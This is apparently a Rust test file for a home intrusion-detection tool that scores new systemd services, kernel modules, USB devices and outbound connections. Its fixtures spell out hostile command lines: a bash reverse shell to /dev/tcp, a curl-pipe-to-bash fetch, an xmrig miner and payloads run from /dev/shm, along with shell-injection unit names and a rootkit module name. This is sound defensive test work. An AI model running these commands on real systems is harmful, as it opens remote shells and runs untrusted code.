//! What is new on a machine, each case beside its benign twin: services, kernel modules, USB devices, talks.
//!
//! Days pass as arguments; how these things are read is tested where they are read.

#![allow(clippy::unwrap_used, reason = "a test")]

mod days;

use chrono::TimeDelta;
use days::{process, start};
use home_soc::assess::{Context, Judge, Memory, Settings, Verdict};
use home_soc::model::{
    Command, Connection, Finding, Inventory, Kind, Level, Module, Modules, Owner, Process, Protocol,
    Provenance, Readings, Sockets, TcpState, Unit, UsbDevice,
};
use std::sync::Arc;

const DAY: i64 = 24 * 60;

fn judge() -> Judge {
    Judge::new(Settings::default(), Memory::default(), Context::default())
}

fn restarted(judge: &Judge) -> Judge {
    let text = serde_json::to_string(judge.memory()).unwrap();
    Judge::new(Settings::default(), serde_json::from_str(&text).unwrap(), Context::default())
}

fn beat(judge: &mut Judge, minute: i64, readings: &Readings) -> Verdict {
    judge.beat(readings, &[], start() + TimeDelta::minutes(minute))
}

fn raised<'a>(verdict: &'a Verdict, rule: &str) -> Vec<&'a Finding> {
    verdict.findings.iter().filter(|finding| finding.rule == rule).collect()
}

fn levels(verdict: &Verdict, rule: &str) -> Vec<Level> {
    raised(verdict, rule).iter().map(|finding| finding.level).collect()
}

fn with(inventory: Inventory) -> Readings {
    Readings { inventory: Some(Arc::new(inventory)), ..Readings::default() }
}

/// The first word of `line` is the program; of a package where it lies below `/usr/bin` or `/usr/sbin`.
fn unit(path: &str, line: &str) -> Unit {
    let program = line.split(' ').next().unwrap();
    let packaged = program.starts_with("/usr/bin/") || program.starts_with("/usr/sbin/");
    let package = if packaged { Provenance::Packaged } else { Provenance::Unpackaged };
    Unit {
        path: path.into(),
        user: path.starts_with("/home/").then(|| "ann".into()),
        runs: vec![Command { line: line.into(), program: program.into(), package: Some(package) }],
        preloads: Vec::new(),
        package: Some(Provenance::Unpackaged),
        written_at: None,
    }
}

fn units(units: Vec<Unit>) -> Readings {
    with(Inventory { units: Some(units), ..Inventory::default() })
}

const UNIT: &str = "HS-FILE-001";

/// The level of a service that appears on a machine that is watched.
fn level_of(new: Unit) -> Option<Level> {
    let mut judge = judge();
    let old = unit("/etc/systemd/system/old.service", "/opt/old");
    assert!(raised(&beat(&mut judge, 0, &units(vec![old.clone()])), UNIT).is_empty(), "the starting point");
    let verdict = beat(&mut judge, 1, &units(vec![old, new]));
    let found = levels(&verdict, UNIT);
    assert!(found.len() <= 1, "{:#?}", verdict.findings);
    found.first().copied()
}

#[test]
fn a_new_service_weighs_as_much_as_what_it_runs() {
    let system = |line: &str| level_of(unit("/etc/systemd/system/new.service", line));
    let user = |line: &str| level_of(unit("/home/ann/.config/systemd/user/new.service", line));
    for line in [
        "/tmp/.x/kswapd0",
        "/dev/shm/x",
        "/var/tmp/update --daemon",
        "/var/lib/.hidden/agent",
        "/usr/bin/bash -c '/dev/shm/run.sh'",
        "/usr/bin/python3 /tmp/x.py",
        "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
        "/opt/xmrig/xmrig -o stratum+tcp://203.0.113.9:3333",
    ] {
        assert_eq!(system(line), Some(Level::Alert), "{line}");
    }
    for line in [
        "/usr/local/bin/agent",
        "/srv/app/run",
        "/usr/bin/python3 /srv/app/main.py",
        "/usr/bin/bash -c 'curl -s http://203.0.113.9/x | bash'",
        "/root/.foo/bin/foo",
    ] {
        assert_eq!(system(line), Some(Level::Warning), "{line}");
    }
    for line in [
        "/usr/bin/snap run lxd.daemon",
        "/usr/bin/docker compose up",
        "/usr/bin/rsync --log-file=/tmp/log /a /b",
    ] {
        assert_eq!(system(line), Some(Level::Info), "{line}");
    }
    assert_eq!(user("/home/ann/bin/sync"), Some(Level::Info));
    assert_eq!(user("/usr/bin/python3 /home/ann/notes.py"), Some(Level::Info));
    assert_eq!(user("/home/ann/.kswapd/x"), Some(Level::Warning));
    assert_eq!(user("/tmp/x"), Some(Level::Warning));
    assert_eq!(user("/dev/shm/x"), Some(Level::Alert));
}

#[test]
fn what_a_service_preloads_is_told_from_an_ordinary_variable() {
    let mut dropin = unit("/etc/systemd/system/ssh.service.d/own.conf", "/usr/sbin/sshd -D");
    dropin.preloads = vec!["/tmp/x.so".into()];
    assert_eq!(level_of(dropin.clone()), Some(Level::Alert));
    dropin.preloads = vec!["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2".into()];
    assert_eq!(level_of(dropin), Some(Level::Info));
}

#[test]
fn what_was_there_before_is_silent_and_what_no_service_should_run_is_told_even_then() {
    let mut judge = judge();
    let readings = units(vec![
        unit("/etc/systemd/system/app.service", "/opt/app"),
        unit("/home/ann/.config/systemd/user/foo.service", "/home/ann/.foo/bin/foo"),
        unit("/etc/systemd/system/evil.service", "/dev/shm/x"),
    ]);
    let verdict = beat(&mut judge, 0, &readings);
    let found = raised(&verdict, UNIT);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].kind == Kind::State && found[0].title.contains("evil.service"));
    assert!(found[0].fix.iter().any(|fix| fix.argv.last().is_some_and(|name| name == "evil.service")));
    let verdict = beat(&mut judge, 1, &units(Vec::new()));
    assert!(raised(&verdict, UNIT).is_empty(), "it is gone");
}

#[test]
fn a_service_that_runs_something_else_is_new_and_one_that_stays_becomes_usual() {
    let mut judge = judge();
    beat(&mut judge, 0, &units(vec![unit("/etc/systemd/system/app.service", "/opt/app")]));
    let mut judge = restarted(&judge);
    let changed = units(vec![unit("/etc/systemd/system/app.service", "/opt/other")]);
    let verdict = beat(&mut judge, 10, &changed);
    assert_eq!(levels(&verdict, UNIT), [Level::Warning]);
    let early = verdict.score.value;
    let verdict = beat(&mut judge, 4 * DAY, &changed);
    assert!(verdict.score.value > early, "an event fades");
    let later = Readings { inventory: changed.inventory.as_deref().cloned().map(Arc::new), ..changed };
    let verdict = beat(&mut judge, 9 * DAY, &later);
    assert!(raised(&verdict, UNIT).is_empty(), "{:#?}", verdict.findings);
}

#[test]
fn hostile_names_of_units_never_enter_a_command() {
    let mut judge = judge();
    beat(&mut judge, 0, &units(Vec::new()));
    let names = ["-rf.service", "a b.service", "$(x).service", "a;b.service", "x\u{202e}.service"];
    let new = names.map(|name| unit(&format!("/etc/systemd/system/{name}"), "/opt/x"));
    let verdict = beat(&mut judge, 1, &units(new.into()));
    for finding in raised(&verdict, UNIT) {
        for word in finding.fix.iter().flat_map(|fix| &fix.argv) {
            let is_option = ["--now"].contains(&word.as_str());
            assert!(is_option || !word.starts_with('-') && !word.contains([' ', '$', ';', '<']), "{word}");
        }
    }
}

#[test]
fn a_flood_of_services_stays_bounded_and_forgets_none_that_is_there() {
    let mut judge = judge();
    let standing: Vec<_> =
        (0..200).map(|n| unit(&format!("/etc/systemd/system/s{n}.service"), "/opt/x")).collect();
    beat(&mut judge, 0, &units(standing.clone()));
    for minute in 1..40 {
        let mut now = standing[..150].to_vec();
        now.extend((0..50).map(|n| unit(&format!("/etc/systemd/system/f{minute}-{n}.service"), "/opt/y")));
        beat(&mut judge, minute, &units(now));
    }
    let verdict = beat(&mut judge, 41, &units(standing[..150].to_vec()));
    let again = |finding: &&&Finding| finding.subject["file"].contains("/system/s");
    assert_eq!(raised(&verdict, UNIT).iter().filter(again).count(), 0);
}

const MODULE: &str = "HS-PROC-011";

fn module(name: &str, marks: &str, file: Option<&str>) -> Module {
    Module { name: name.into(), marks: marks.into(), file: file.map(Into::into), catalogued: true }
}

fn modules(foreign: Vec<Module>, taint: u64) -> Readings {
    let marked = foreign.iter().any(|module| module.marks.contains(['O', 'E']));
    let modules = Modules { total: 90, foreign, taint: Some(taint), marked };
    with(Inventory { modules: Some(modules), ..Inventory::default() })
}

#[test]
fn a_module_from_nowhere_is_told_from_a_driver_that_was_built_here() {
    let mut judge = judge();
    let nvidia = module("nvidia", "POE", Some("/lib/modules/6.12/updates/dkms/nvidia.ko"));
    assert!(raised(&beat(&mut judge, 0, &modules(vec![nvidia.clone()], 4097)), MODULE).is_empty());
    let vbox = module("vboxdrv", "OE", Some("/lib/modules/6.12/misc/vboxdrv.ko"));
    let verdict = beat(&mut judge, 1, &modules(vec![nvidia.clone(), vbox.clone()], 12_289));
    assert_eq!(levels(&verdict, MODULE), [Level::Info]);
    let rootkit = module("diamorphine", "OE", None);
    let verdict = beat(&mut judge, 2, &modules(vec![nvidia, vbox, rootkit], 12_289));
    assert_eq!(levels(&verdict, MODULE), [Level::Alert, Level::Info]);
    assert!(verdict.score.value <= 69, "{}", verdict.score.value);
    let patch = module("kpatch_1", "OEK", None);
    let mut other = Judge::new(Settings::default(), Memory::default(), Context::default());
    beat(&mut other, 0, &modules(Vec::new(), 0));
    assert_eq!(levels(&beat(&mut other, 1, &modules(vec![patch], 12_288)), MODULE), [Level::Warning]);
}

#[test]
fn a_taint_without_a_module_is_told_from_a_driver_that_was_taken_out() {
    let mut judge = judge();
    beat(&mut judge, 0, &modules(Vec::new(), 0));
    let verdict = beat(&mut judge, 1, &modules(Vec::new(), 12_288));
    assert_eq!(levels(&verdict, MODULE), [Level::Alert]);
    let verdict = beat(&mut restarted(&judge), 2, &modules(Vec::new(), 12_288));
    assert_eq!(levels(&verdict, MODULE), [Level::Alert], "after a restart as well");

    let mut twin = Judge::new(Settings::default(), Memory::default(), Context::default());
    let vbox = module("vboxdrv", "OE", Some("/lib/modules/6.12/misc/vboxdrv.ko"));
    beat(&mut twin, 0, &modules(vec![vbox], 12_288));
    assert!(raised(&beat(&mut twin, 1, &modules(Vec::new(), 12_288)), MODULE).is_empty());
    let unmarked = Module { catalogued: false, ..module("dummy", "", None) };
    assert!(raised(&beat(&mut twin, 2, &modules(vec![unmarked], 0)), MODULE).is_empty(), "no catalogue");
}

const USB: &str = "HS-CONF-003";

fn usb(id: &str, interfaces: &[(u8, u8)]) -> UsbDevice {
    UsbDevice { id: id.into(), name: "Thing".into(), serial: None, interfaces: interfaces.to_vec() }
}

fn plugged(devices: Vec<UsbDevice>) -> Readings {
    with(Inventory { devices: Some(devices), ..Inventory::default() })
}

#[test]
fn a_new_device_is_a_note_once_and_one_that_poses_a_warning() {
    let mut judge = judge();
    let mouse = usb("046d:c077", &[(3, 2)]);
    assert!(raised(&beat(&mut judge, 0, &plugged(vec![mouse.clone()])), USB).is_empty());
    let stick = usb("0781:5581", &[(8, 0x50)]);
    let verdict = beat(&mut judge, 1, &plugged(vec![mouse.clone(), stick.clone()]));
    assert_eq!(levels(&verdict, USB), [Level::Info]);
    assert!(raised(&verdict, USB)[0].title.contains("keeps files"));
    beat(&mut judge, 2, &plugged(vec![mouse.clone()]));
    let verdict = beat(&mut restarted(&judge), 9 * DAY, &plugged(vec![mouse.clone(), stick]));
    assert!(raised(&verdict, USB).is_empty(), "known since a week");
    let ducky = usb("03eb:2401", &[(3, 1), (8, 0x50)]);
    let verdict = beat(&mut judge, 10 * DAY, &plugged(vec![mouse, ducky]));
    assert_eq!(levels(&verdict, USB), [Level::Warning]);
}

const TALK: &str = "HS-NET-004";

fn program(name: &str, path: &str) -> Process {
    let mut one = process(path, 0.0);
    Arc::make_mut(&mut one.program).name = name.into();
    one
}

fn calls(process: &Process, remote: &str) -> Readings {
    let program = &process.program;
    let connection = Connection {
        protocol: Protocol::Tcp,
        local: "192.168.1.5:40000".parse().unwrap(),
        remote: remote.parse().unwrap(),
        state: TcpState::Established,
        incoming: false,
        owner: Some(Owner { pid: program.pid, start_ticks: program.start_ticks, name: program.name.clone() }),
        uid: 0,
        inode: 5,
        sent_bytes: None,
        received_bytes: None,
        since: None,
    };
    let sockets = Sockets { connections: Some(Arc::new(vec![connection])), ..Sockets::default() };
    Readings {
        processes: Some(Arc::new(vec![process.clone()])),
        sockets: Some(Arc::new(sockets)),
        ..Readings::default()
    }
}

#[test]
fn a_first_call_to_a_port_is_a_note_and_a_usual_one_is_silent() {
    let app = program("app", "/srv/app/run");
    let mut judge = judge();
    assert!(raised(&beat(&mut judge, 0, &calls(&app, "10.0.0.7:5432")), TALK).is_empty(), "learning");
    let mut judge = restarted(&judge);
    for (remote, told) in [
        ("10.0.0.7:5432", false),
        ("203.0.113.9:443", false),
        ("127.0.0.1:6379", false),
        ("192.168.1.5:6379", false),
        ("203.0.113.9:4444", true),
        ("198.51.100.7:4444", false),
        ("[2001:db8::1]:6667", true),
    ] {
        let mut judge = restarted(&judge);
        if remote.starts_with("198") {
            beat(&mut judge, 2 * DAY, &calls(&app, "203.0.113.9:4444"));
            let faded = beat(&mut judge, 4 * DAY, &Readings::default());
            assert!(raised(&faded, TALK).is_empty());
            assert!(raised(&beat(&mut judge, 4 * DAY + 1, &calls(&app, remote)), TALK).is_empty());
            continue;
        }
        let verdict = beat(&mut judge, 2 * DAY, &calls(&app, remote));
        assert_eq!(!raised(&verdict, TALK).is_empty(), told, "{remote}");
        assert!(levels(&verdict, TALK).iter().all(|level| *level == Level::Info));
    }
    beat(&mut judge, 2 * DAY, &Readings::default());
}

#[test]
fn browsers_call_whom_they_like_and_a_program_from_an_odd_folder_does_not() {
    let watched = || {
        let mut judge = judge();
        beat(&mut judge, 0, &calls(&program("app", "/srv/app/run"), "10.0.0.7:5432"));
        judge
    };
    for (name, path) in [
        ("firefox", "/usr/lib/firefox/firefox"),
        ("chrome", "/opt/google/chrome/chrome"),
        ("qbittorrent", "/usr/bin/qbittorrent"),
        ("ssh", "/usr/bin/ssh"),
    ] {
        let verdict = beat(&mut watched(), 2 * DAY, &calls(&program(name, path), "203.0.113.9:6881"));
        assert!(raised(&verdict, TALK).is_empty(), "{name}");
    }
    let implant = program("x", "/dev/shm/x");
    let verdict = beat(&mut judge(), 0, &calls(&implant, "203.0.113.9:443"));
    assert_eq!(levels(&verdict, TALK), [Level::Warning], "also on the first day, also to the web");
    assert!(raised(&verdict, TALK)[0].story.is_some(), "one story with the program itself");
    let image = program("App", "/tmp/.mount_AppXYZ/usr/bin/app");
    assert!(raised(&beat(&mut judge(), 0, &calls(&image, "203.0.113.9:443")), TALK).is_empty());
}
